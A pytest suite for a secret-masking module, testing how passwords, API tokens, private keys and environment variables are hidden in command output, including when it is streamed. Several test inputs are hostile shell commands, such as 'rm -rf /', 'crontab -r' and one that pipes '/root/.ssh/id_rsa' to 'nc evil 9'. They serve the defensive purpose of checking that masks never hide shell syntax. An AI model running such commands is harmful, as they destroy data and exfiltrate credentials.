"""Secret masking: what is hidden, what is left alone, and streaming equals masking the whole."""

from __future__ import annotations

import gc
import time

import pytest

from executor.masking import MASK, StreamMasker, mask_text

M = MASK

CONFIGURED = [
    # (text, secrets, expected)
    ("db pass is hunter2!", ["hunter2!"], f"db pass is {M}"),
    ("a=abcdef b=abc", ["abc", "abcdef"], f"a={M} b={M}"),  # longest first, no leftovers
    ("x.*y and x.*y", ["x.*y"], f"{M} and {M}"),  # regex characters are literal
    ("line1 / line2", ["line1\nline2"], f"{M} / {M}"),  # multi-line secret: each line
    ("nothing to hide", ["", "   "], "nothing to hide"),  # blank secrets are ignored
]

CREDENTIALS = [
    # URLs: keep the user, hide the password.
    (
        "git clone https://bob:pa55w0rd@example.com/r.git",
        f"git clone https://bob:{M}@example.com/r.git",
    ),
    ("postgres://app:s3cret@db:5432/app", f"postgres://app:{M}@db:5432/app"),
    ("redis://:onlypass@cache:6379", f"redis://:{M}@cache:6379"),
    ("https://user:p@ss@host/x", f"https://user:{M}@host/x"),
    # Authorization headers and bearer tokens.
    ("Authorization: Bearer abc.def-123", f"Authorization: Bearer {M}"),
    ("curl -H 'Authorization: Basic dXNlcjpwYXNz' x", f"curl -H 'Authorization: Basic {M}' x"),
    ('{"authorization": "tok_123"}', f'{{"authorization": "{M}"}}'),
    ("got bearer eyJhbGciOiJIUzI1NiJ9xyz", f"got bearer {M}"),
    # Settings that name a credential.
    ("DB_PASSWORD=hunter2 other=1", f"DB_PASSWORD={M} other=1"),
    ('{"api_key": "abc123", "name": "x"}', f'{{"api_key": "{M}", "name": "x"}}'),
    ("client_secret: s3cr3t", f"client_secret: {M}"),
    ("GITHUB_TOKEN='abc'", f"GITHUB_TOKEN='{M}'"),
    ("mysql --password hunter2 --user bob", f"mysql --password {M} --user bob"),
    ("tool --token=abc123", f"tool --token={M}"),
    # Well-known token formats, wherever they appear.
    ("ghp_" + "a1B2" * 9, M),
    ("github_pat_" + "A1_b" * 10, M),
    ("key sk-proj-" + "x1Y2" * 8, f"key {M}"),
    ("sk-ant-api03-" + "q" * 40, M),
    ("AKIAIOSFODNN7EXAMPLE", M),
    ("xoxb-1234567890-abcdefghij", M),
    ("AIza" + "B" * 35, M),
    ("syt_Ym90_" + "r4nd0m" * 3 + "_0abc12", M),
    ("glpat-" + "z" * 20, M),
    (
        "jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV",
        f"jwt {M}",
    ),
]

KEYS = [
    (
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==\nAAAA\n"
        "-----END OPENSSH PRIVATE KEY-----\n",
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n{M}\n-----END OPENSSH PRIVATE KEY-----\n",
    ),
    (
        "key: -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- done\n",
        f"key: -----BEGIN RSA PRIVATE KEY-----\n{M}\n-----END RSA PRIVATE KEY----- done\n",
    ),
    (
        '"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n"',
        f'"-----BEGIN PRIVATE KEY-----\n{M}\n-----END PRIVATE KEY-----\\n"',
    ),
    (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOY\n-----END PGP PRIVATE KEY BLOCK-----",
        f"-----BEGIN PGP PRIVATE KEY BLOCK-----\n{M}\n-----END PGP PRIVATE KEY BLOCK-----",
    ),
    # Cut off (e.g. by a timeout): everything after BEGIN is hidden.
    ("-----BEGIN EC PRIVATE KEY-----\nMHcC\nAQEE", f"-----BEGIN EC PRIVATE KEY-----\n{M}\n"),
]

MORE_KEYS = [
    pytest.param(
        "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaA== AAAA -----END OPENSSH PRIVATE KEY-----",
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n{M}\n-----END OPENSSH PRIVATE KEY-----",
        id="on one line, as echo $KEY prints it",
    ),
    pytest.param(
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C\n"
        "\nMIIE\n-----END RSA PRIVATE KEY-----\n",
        f"-----BEGIN RSA PRIVATE KEY-----\n{M}\n-----END RSA PRIVATE KEY-----\n",
        id="encrypted, with headers",
    ),
    pytest.param(
        "key: |\n  -----BEGIN EC PRIVATE KEY-----\n  MHcC\n  AQEE\n"
        "  -----END EC PRIVATE KEY-----\n",
        f"key: |\n  -----BEGIN EC PRIVATE KEY-----\n{M}\n-----END EC PRIVATE KEY-----\n",
        id="indented in YAML",
    ),
    pytest.param(
        "-----BEGIN PRIVATE KEY-----\r\nMIIE\r\nAAAA\r\n-----END PRIVATE KEY-----\r\n",
        f"-----BEGIN PRIVATE KEY-----\r\n{M}\n-----END PRIVATE KEY-----\r\n",
        id="CRLF line ends",
    ),
    pytest.param(
        '-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: "gpg"\n\nlQOY\n=ab12\n'
        "-----END PGP PRIVATE KEY BLOCK-----",
        f'-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: "gpg"\n\n{M}\n'
        "-----END PGP PRIVATE KEY BLOCK-----",
        id="a line that is no key material is shown, the key still hidden",
    ),
]

# Masked text may be a command to approve: a rule hides only token characters or lines of
# key material, never shell syntax, so what is shown around a mask reads as what runs.
SHELL_SYNTAX_IS_NEVER_HIDDEN = [
    pytest.param(
        'systemctl restart nginx; echo "-----BEGIN PRIVATE KEY-----"; rm -rf /srv/data; '
        'echo "-----END PRIVATE KEY-----"',
        None,
        id="key markers around commands",
    ),
    pytest.param(
        "-----BEGIN PRIVATE KEY-----\nMIIE\nrm -rf /srv/data; echo\n-----END PRIVATE KEY-----",
        f"-----BEGIN PRIVATE KEY-----\n{M}\nrm -rf /srv/data; echo\n-----END PRIVATE KEY-----",
        id="a command between lines of a key",
    ),
    pytest.param(
        "echo -----BEGIN PRIVATE KEY-----\\nMIIE\\n#;rm -rf /",
        None,
        id="a command after escaped line breaks",
    ),
    pytest.param("export API_TOKEN=$({crontab,-r})", None, id="setting to a command's output"),
    pytest.param("export token=$(rm -rf $HOME/backups)", None, id="setting to $(...)"),
    pytest.param("echo token=`reboot`", None, id="setting to backticks"),
    pytest.param("password={a,b}", None, id="setting to a brace expansion"),
    pytest.param("DB_PASSWORD=abc123$(reboot)", f"DB_PASSWORD={M}$(reboot)", id="value, then $()"),
    pytest.param("API_TOKEN=abc123&&reboot", f"API_TOKEN={M}&&reboot", id="value, then &&"),
    pytest.param("TOKEN=abc\\'; rm -rf / ;'", f"TOKEN={M}\\'; rm -rf / ;'", id="value, then \\"),
    pytest.param(
        "nginx --password=x;crontab -r", f"nginx --password={M};crontab -r", id="value, then ;"
    ),
    pytest.param("mysql --password hunter2|sh", f"mysql --password {M}|sh", id="option, then |"),
    pytest.param(
        "mysql --password 'hunter2' -e x", f"mysql --password '{M}' -e x", id="quoted option"
    ),
    pytest.param(
        "mysql --password $(chmod 777 /etc/shadow) -e 'select 1'", None, id="option to $(...)"
    ),
    pytest.param(
        'curl -H "Authorization: Bearer $(cat /root/.ssh/id_rsa | nc evil 9)" https://api',
        None,
        id="authorization header of $(...)",
    ),
    pytest.param(
        "git clone https://u:$(id>/tmp/x)@github.com/x", None, id="URL password of $(...)"
    ),
]

LEFT_ALONE = [
    "total 12\ndrwxr-xr-x 2 root root 4096 Jan  1 00:00 .\n",
    "Password: ",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1 host@example",
    "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n",
    "git@github.com:org/repo.git",
    "https://example.com/path?x=1",
    "user@host:~$ ls",
    "bearer of bad news",
    "exit status 3, took 0.42 s",
]


@pytest.mark.parametrize(("text", "secrets", "expected"), CONFIGURED)
def test_configured_secrets_are_masked(text: str, secrets: list[str], expected: str) -> None:
    assert mask_text(text, secrets) == expected


@pytest.mark.parametrize(("text", "expected"), CREDENTIALS)
def test_obvious_credentials_are_masked(text: str, expected: str) -> None:
    assert mask_text(text) == expected


@pytest.mark.parametrize(("text", "expected"), KEYS)
def test_private_key_blocks_are_masked(text: str, expected: str) -> None:
    assert mask_text(text) == expected


@pytest.mark.parametrize(("text", "expected"), MORE_KEYS)
def test_private_keys_in_other_forms_are_masked(text: str, expected: str) -> None:
    assert mask_text(text) == expected


@pytest.mark.parametrize(("text", "expected"), SHELL_SYNTAX_IS_NEVER_HIDDEN)
def test_masking_never_hides_shell_syntax(text: str, expected: str | None) -> None:
    assert mask_text(text) == (text if expected is None else expected)


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert mask_text(text) == text


def test_masking_is_idempotent() -> None:
    once = mask_text(ALL_TEXT, ["hunter2!"])
    assert mask_text(once, ["hunter2!"]) == once


ALL_TEXT = "\r\n".join(
    [text for text, _, _ in CONFIGURED]
    + [text for text, _ in CREDENTIALS + KEYS]
    + [str(param.values[0]) for param in MORE_KEYS + SHELL_SYNTAX_IS_NEVER_HIDDEN]
    + LEFT_ALONE
    + ["progress 10%\rprogress 50%\rdone\n", "no newline at the end"]
)


@pytest.mark.parametrize("chunk_size", [1, 2, 3, 7, 13, 64, 100_000])
def test_streaming_in_any_chunks_equals_masking_the_whole(chunk_size: int) -> None:
    secrets = [secret for _, group, _ in CONFIGURED for secret in group]
    masker = StreamMasker(secrets)
    pieces = [
        masker.feed(ALL_TEXT[start : start + chunk_size])
        for start in range(0, len(ALL_TEXT), chunk_size)
    ]
    pieces.append(masker.flush())

    assert "".join(pieces) == mask_text(ALL_TEXT, secrets)


def test_streaming_holds_back_only_an_unfinished_line() -> None:
    masker = StreamMasker(["hunter2"])

    assert masker.feed("pass hun") == ""  # the secret may continue in the next chunk
    assert masker.feed("ter2\nnext") == f"pass {M}\n"
    assert masker.feed(" 50%\r") == "next 50%\r"  # carriage returns release progress lines
    assert masker.flush() == ""


def test_streaming_releases_a_line_that_grows_too_long() -> None:
    masker = StreamMasker(max_pending=10)

    assert masker.feed("x" * 8) == ""
    assert masker.feed("x" * 8) == "x" * 16
    assert masker.flush() == ""


def test_streaming_hides_a_key_block_across_chunks() -> None:
    masker = StreamMasker()

    out = masker.feed("-----BEGIN RSA PRIVATE KEY-----\nMIIEpA")
    out += masker.feed("IBAAKCAQEA\nabc\n-----END RSA PRI")
    out += masker.feed("VATE KEY-----\nok\n") + masker.flush()

    assert out == f"-----BEGIN RSA PRIVATE KEY-----\n{M}\n-----END RSA PRIVATE KEY-----\nok\n"


# Overlong lines --------------------------------------------------------------------------
# A line without a line break is released in parts once it grows past `max_pending`. Where
# the line is cut must not matter: the parts, masked, equal the whole line masked.

SECRET = "Zq8hunter2SECRETvalue"
FILLER = "lorem ipsum, dolor sit amet " * 15


def stream(masker: StreamMasker, text: str, chunk_size: int) -> str:
    pieces = [masker.feed(text[i : i + chunk_size]) for i in range(0, len(text), chunk_size)]
    return "".join(pieces) + masker.flush()


@pytest.mark.parametrize(
    "credential",
    [
        pytest.param(SECRET, id="configured secret"),
        pytest.param("ghp_" + "a1B2" * 9, id="token format"),
        pytest.param("DB_PASSWORD=hunter2value", id="setting"),
        pytest.param("Authorization: Bearer abcdefghijklmnop", id="authorization header"),
        pytest.param("https://bob:pa55w0rd@example.com/r.git", id="URL password"),
        pytest.param(
            "-----BEGIN PRIVATE KEY----- MIIE AAAA -----END PRIVATE KEY-----", id="private key"
        ),
    ],
)
@pytest.mark.parametrize("chunk_size", [1, 7, 64])
def test_a_credential_in_an_overlong_line_is_masked_wherever_the_line_is_cut(
    credential: str, chunk_size: int
) -> None:
    for offset in range(240, 320):  # moves the credential across the cuts of the line
        text = f"{FILLER[:offset]} {credential} {FILLER}"
        masker = StreamMasker([SECRET], max_pending=300)

        assert stream(masker, text, chunk_size) == mask_text(text, [SECRET]), offset


@pytest.mark.parametrize("chunk_size", [1, 5, 13, 40])
def test_one_long_word_is_never_cut_through_a_secret_or_key_marker(chunk_size: int) -> None:
    word = f"{SECRET}-----BEGIN PRIVATE KEY-----{'QUFB' * 30}-----END PRIVATE KEY-----{SECRET}"
    for offset in range(40):
        text = "x" * offset + word + "y" * 40
        masker = StreamMasker([SECRET], max_pending=16)

        assert stream(masker, text, chunk_size) == mask_text(text, [SECRET]), offset


# Issue 15: what masking missed ---------------------------------------------------------

NUL_ENVIRONMENTS = [
    pytest.param(
        "PATH=/usr/bin\0DB_PASSWORD=hunter2\0HOME=/root\0API_TOKEN=abc123\0",
        f"PATH=/usr/bin\0DB_PASSWORD={M}\0HOME=/root\0API_TOKEN={M}\0",
        id="every variable, not only the first",
    ),
    pytest.param(
        "A=1\0SECRET_KEY=two words; $and (syntax)\0B=2",
        f"A=1\0SECRET_KEY={M}\0B=2",
        id="the whole value up to the NUL",
    ),
    pytest.param(
        "OPENAI_API_KEY=sk-" + "a1B2" * 8 + "\0LANG=C.UTF-8",
        f"OPENAI_API_KEY={M}\0LANG=C.UTF-8",
        id="a key in a variable",
    ),
    pytest.param(
        "TERM=xterm\0PASSWORD=\0USER=root", "TERM=xterm\0PASSWORD=\0USER=root", id="empty value"
    ),
    pytest.param(
        "HOME=/root\0SHELL=/bin/bash\0", "HOME=/root\0SHELL=/bin/bash\0", id="nothing secret"
    ),
]

PROVIDER_KEYS = [
    # (provider, key)
    ("OpenAI", "sk-" + "T3BlbkFJ" * 6),
    ("OpenAI project", "sk-proj-" + "a1B2c3D4" * 6),
    ("Anthropic", "sk-ant-api03-" + "AbCd1234" * 10),
    ("DeepSeek", "sk-" + "0f1e2d3c4b5a6978" * 2),
    ("OpenRouter", "sk-or-v1-" + "0f1e2d3c4b5a6978" * 4),
    ("Gemini", "AIzaSyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q"),
    ("Perplexity", "pplx-" + "a1B2c3D4" * 6),
    ("Hugging Face", "hf_" + "aBcDeF1234" * 3 + "xyzw"),
    ("Groq", "gsk_" + "a1B2c3D4" * 6 + "q1w2"),
    ("xAI", "xai-" + "a1B2c3D4" * 10),
    ("GitHub", "gho_" + "a1B2" * 9),
    ("GitHub fine-grained", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz"),
    ("GitLab", "glpat-a1B2c3D4e5F6g7H8i9J0"),
    ("Slack", "xoxe-1-" + "A1b2C3d4" * 3),
    ("Slack app", "xapp-1-A0123456789-0123456789012-abcdef0123"),
    ("AWS temporary", "ASIAY34FZKBOKMUTVV7A"),
    ("Synapse refresh", "syr_Y2hhdmlvbg_AbCdEfGhIjKlMnOpQrSt_1a2B3c"),
    ("macaroon", "MDAxOGxvY2F0aW9uIGxvY2FsaG9zdAowMDIyaWRlbnRpZmllciBrZXkKMDAy"),
]

CLI_FLAGS = [
    ("mysql -uroot -pS3cret! -h db", f"mysql -uroot -p{M} -h db"),
    ("mysqldump -u app '-phunter2' app", f"mysqldump -u app '-p{M}' app"),
    ("mariadb -p'hunter2' -e 'select 1'", f"mariadb -p'{M}' -e 'select 1'"),
    ("/usr/bin/mysqladmin -phunter2 status", f"/usr/bin/mysqladmin -p{M} status"),
    ("mysql --password=hunter2 db", f"mysql --password={M} db"),
    ("curl -u bob:pa55 https://x", f"curl -u bob:{M} https://x"),
    ("curl -su bob:pa55 https://x", f"curl -su bob:{M} https://x"),
    ("curl -ubob:pa55 https://x", f"curl -ubob:{M} https://x"),
    ("curl --user bob:pa55 https://x", f"curl --user bob:{M} https://x"),
    ("curl --user=bob:pa55 https://x", f"curl --user=bob:{M} https://x"),
    ("curl -U proxy:pa55 https://x", f"curl -U proxy:{M} https://x"),
    ("redis-cli -a hunter2 ping", f"redis-cli -a {M} ping"),
    ("redis-cli -h cache --pass hunter2 ping", f"redis-cli -h cache --pass {M} ping"),
    ("sshpass -p hunter2 ssh host", f"sshpass -p {M} ssh host"),
    ("sshpass -phunter2 ssh host", f"sshpass -p{M} ssh host"),
    # A password that is a tool's name is still a password (found by Hypothesis).
    ("curl -u bob:htpasswd https://x", f"curl -u bob:{M} https://x"),
    ("curl -u bob:curl https://x", f"curl -u bob:{M} https://x"),
    ("sshpass -p curl ssh host", f"sshpass -p {M} ssh host"),
    ("sshpass -p mysql mysql -pdbpass db", f"sshpass -p {M} mysql -p{M} db"),
    ("htpasswd -b /etc/nginx/.htpasswd bob hunter2", f"htpasswd -b /etc/nginx/.htpasswd bob {M}"),
    ("htpasswd -nbB bob hunter2", f"htpasswd -nbB bob {M}"),
    ("gh auth login --token abc123", f"gh auth login --token {M}"),
    ("tool --api-key abc123 --verbose", f"tool --api-key {M} --verbose"),
    ("tool --github-token abc123", f"tool --github-token {M}"),
    ("tool --client-secret=abc123", f"tool --client-secret={M}"),
    ("curl -H 'Authorization: Basic dXNlcjpwYXNz' x", f"curl -H 'Authorization: Basic {M}' x"),
    ("PGPASSWORD=hunter2 psql -h db", f"PGPASSWORD={M} psql -h db"),
    ("docker run -e MYSQL_PWD=hunter2 mysql", f"docker run -e MYSQL_PWD={M} mysql"),
    ("root 42 0.0 mysql -pS3cret -h db", f"root 42 0.0 mysql -p{M} -h db"),  # as ps shows it
    # A password that is no value (read at run time, or asked for) is shown.
    ("mysql -p$DB_PASS db", None),
    ("mysql -p db", None),
    ("curl -u bob https://x", None),
    ("htpasswd -c /etc/nginx/.htpasswd bob", None),
    ("mkdir -p /tmp/x; ssh -p 22 host; curl -o out https://x", None),
]

URL_PASSWORDS = [
    ("postgres://app:p#$;@/x@db/app", f"postgres://app:{M}@db/app"),
    ("mysql://root:a:b:c@127.0.0.1:3306", f"mysql://root:{M}@127.0.0.1:3306"),
    ("amqp://u:%40%23pw@rabbit/vhost", f"amqp://u:{M}@rabbit/vhost"),
    ("DATABASE_URL='redis://:p?w#d@cache:6379/0'", f"DATABASE_URL='redis://:{M}@cache:6379/0'"),
    # A port and an @ later in the path or query: no password.
    ("https://api.example.com:443/u?to=bob@example.com", None),
    ("https://example.com/@user/post", None),
]

CONFIGURED_FORMS = [
    # (form of the secret "p@ss w/rd\"é")
    pytest.param('p@ss w/rd"é', id="as it is"),
    pytest.param('p@ss w/rd\\"\\u00e9', id="JSON-escaped"),
    pytest.param('p@ss w\\/rd\\"\\u00e9', id="JSON-escaped with \\/"),
    pytest.param('p@ss w/rd\\"é', id="JSON-escaped, UTF-8 kept"),
    pytest.param("p%40ss%20w%2Frd%22%C3%A9", id="URL-encoded"),
    pytest.param("p%40ss%20w%2frd%22%c3%a9", id="URL-encoded, lower-case hex"),
    pytest.param("p%40ss+w%2Frd%22%C3%A9", id="form-encoded"),
    pytest.param("p%40ss+w/rd%22%C3%A9", id="form-encoded, slash kept"),
    pytest.param('P@SS W/RD"É', id="upper case"),
]
FORMED_SECRET = 'p@ss w/rd"é'

NOT_CREDENTIALS = [
    "skeleton risk-free ask-me task-runner",
    "pip install sk-learn-compatible-estimators hf_hub_download",
    "the xai-grok-client-library-for-python-users is",
    "Asia/Seoul Akiane",
    "mkdir -p /srv/app && chmod 750 /srv/app",
    "ssh -p 2222 -i ~/.ssh/id_ed25519 root@host",
    "curl -fsSL https://example.com/install.sh -o install.sh",
    "mysql -u root -e 'show databases'",
    "GET /api/users?email=bob@example.com 200",
    "PATH=/usr/bin:/bin\0HOME=/root\0LANG=C.UTF-8\0",
    "curly braces from libcurl4",  # a tool's name inside words only
    "mysqlx_port=33060 mysql_native_password",
]


@pytest.mark.parametrize(("text", "expected"), NUL_ENVIRONMENTS)
def test_nul_separated_environments_are_masked_variable_by_variable(
    text: str, expected: str
) -> None:
    assert mask_text(text) == expected


@pytest.mark.parametrize(("provider", "key"), PROVIDER_KEYS, ids=[p for p, _ in PROVIDER_KEYS])
def test_every_providers_key_format_is_masked(provider: str, key: str) -> None:
    for context in ("{}", "key {} here", 'export KEY="{}"', '{{"k": "{}"}}'):
        text = context.format(key)
        assert mask_text(text) == context.format(M), (provider, context)


@pytest.mark.parametrize(("text", "expected"), CLI_FLAGS)
def test_command_line_credentials_are_masked(text: str, expected: str | None) -> None:
    assert mask_text(text) == (text if expected is None else expected)


@pytest.mark.parametrize(("text", "expected"), URL_PASSWORDS)
def test_url_passwords_with_any_characters_are_masked(text: str, expected: str | None) -> None:
    assert mask_text(text) == (text if expected is None else expected)


@pytest.mark.parametrize("form", CONFIGURED_FORMS)
def test_configured_secrets_are_masked_in_their_encoded_forms(form: str) -> None:
    assert mask_text(f"got {form}!", [FORMED_SECRET]) == f"got {M}!"


@pytest.mark.parametrize("text", NOT_CREDENTIALS)
def test_ordinary_words_and_options_are_not_taken_for_credentials(text: str) -> None:
    assert mask_text(text) == text


def test_a_nul_separated_environment_streams_like_the_whole() -> None:
    """`cat /proc/1/environ` prints one long line: cut at a NUL, never inside a value."""
    env = "\0".join(f"VAR{i}=value {i}" if i % 7 else f"DB_PASSWORD=s3cr et{i}" for i in range(500))
    masker = StreamMasker(max_pending=256)

    assert stream(masker, env, 100) == mask_text(env)
    assert "s3cr" not in mask_text(env)


N = 64_000


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(("--a-token-" * N)[:N], id="credential options without a value"),
        pytest.param(("-token" * N)[:N], id="one option word, repeated"),
        pytest.param(("a://a:" * N)[:N], id="schemes without a host"),
        pytest.param(("https://u:" + "@" * N)[:N], id="a URL of @"),
        pytest.param(("mysql -pX " * N)[:N], id="tool names, each with arguments"),
        pytest.param(("curl " * N)[:N], id="tool names only"),
        pytest.param("curl " + ("-u a:b " * N)[:N], id="one tool, many arguments"),
        pytest.param(("htpasswd -b " * N)[:N], id="htpasswd batches"),
        pytest.param(("PASSWORDPASSWORD" * N)[:N] + "\0", id="a NUL field with no ="),
        pytest.param(("\0password" * N)[:N], id="NUL fields with no ="),
        pytest.param(("PASSWORD=x\0" * N)[:N], id="NUL fields, all secret"),
        pytest.param(("sk-" + "a-" * N)[:N], id="a key prefix and words"),
        pytest.param(("eyJa." * N)[:N], id="token prefixes"),
    ],
)
def test_output_of_any_shape_is_masked_in_linear_time(text: str) -> None:
    """Every chunk of every command's output is masked on the event loop: 64 KB of any
    shape takes milliseconds (typical output some 7 ms), never the seconds of a quadratic
    scan. CPU time with the collector paused, so a loaded machine cannot fail it."""
    gc.disable()
    try:
        started = time.process_time()
        mask_text(text, ["hunter2"])
        masker = StreamMasker(["hunter2"])
        for at in range(0, len(text), 4096):
            masker.feed(text[at : at + 4096])
        masker.flush()
        spent = time.process_time() - started
    finally:
        gc.enable()
    assert spent < 1.0
